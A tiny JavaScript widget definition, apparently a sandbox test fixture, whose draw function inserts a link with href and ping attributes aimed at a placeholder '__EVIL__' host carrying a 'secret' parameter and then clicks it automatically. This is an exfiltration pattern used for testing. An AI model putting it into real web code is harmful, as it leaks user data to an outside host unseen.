vitrine.defineWidget({
  async draw(root) {
    root.innerHTML = '<a href="__EVIL__/link?secret" ping="__EVIL__/ping">x</a>';
    root.querySelector('a').click();
    return { summary: 'drawn' };
  },
});
